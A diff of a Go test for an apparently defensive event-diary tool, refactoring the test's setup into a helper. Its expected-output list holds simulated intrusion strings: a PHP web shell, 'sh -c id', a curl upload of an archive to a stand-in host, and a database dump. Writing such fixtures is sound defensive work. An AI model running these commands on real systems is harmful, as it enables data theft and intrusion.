@@ -7,7 +7,6 @@ import (
 	"github.com/moat-platform/moat"
 	"github.com/moat-platform/moat/locate/diary"
 	"github.com/moat-platform/moat/store/lake"
-	"github.com/moat-platform/moat/store/run/runtest"
 )
 
 // TestDetails reads the diary of a server and what each act was about, from a lake that kept all of it but one event.
@@ -30,19 +29,10 @@ func TestDetails(t *testing.T) {
 	}
 	want := []string{"POST /up/lg.php → 200", "sh -c id", "curl -T o.gz https://x.example", "/srv/www/lg.php", "5 MiB to 203.0.113.9 by /usr/bin/curl", "from 203.0.113.9",
 		"mysqldump: SELECT * FROM orders", "role eve", "Php.Shell /srv/www/lg.php", "orders.list", "sshd password", "", strings.Repeat("long/", 40)[:79] + "…", ""}
-	d, err := diary.Open(diary.Config{Dir: t.TempDir()})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer d.Close()
-	w, err := d.Writer(0)
-	if err != nil {
-		t.Fatal(err)
-	}
 	for i, e := range events {
 		e.Partner, e.Host, e.Time = "acme", "web1", day0+moat.Time(i)*moat.Second
 	}
-	runtest.Append(t, w, 1, events...)
+	d := diaryOf(t, events)
 	teller := New(Config{Diary: d, Scan: scanOf(events[:len(events)-1])})
 	page, err := d.Entity(t.Context(), moat.Everyone(), diary.Query{Entity: moat.Entity{Kind: moat.Host, ID: "web1"}}, 100, "")
 	if err != nil || len(page.Touches) != len(events) {
